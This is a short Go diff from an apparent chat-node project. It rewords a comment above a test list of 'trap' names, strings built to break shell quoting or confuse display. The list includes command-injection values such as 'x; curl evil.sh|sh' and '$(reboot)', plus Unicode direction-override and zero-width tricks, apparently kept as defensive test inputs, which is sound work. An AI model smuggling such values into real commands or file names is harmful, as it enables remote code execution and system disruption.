@@ -13,7 +13,7 @@ import (
 	"localchat/node"
 )
 
-// traps are names that are more than a word where they are typed, in a shell or after a command of ours.
+// traps are names that are more than one plain word in a shell or after one of our commands.
 var traps = []string{
 	"x; curl evil.sh|sh", "`reboot`", "$(reboot)", "a b", "-rf", "--help", "a\nb", "a\u2028b", "x&", "a>b", "'", `"`, "*", "~root", "#x", "!!", "a\\b", "{a,b}",
 	"\u202ebal", "la\u200bb", "\u3164", "la\u3164b", "", "x|y", "a=b", "%PATH%", "a\tb", "[x]", "?", "(x)",
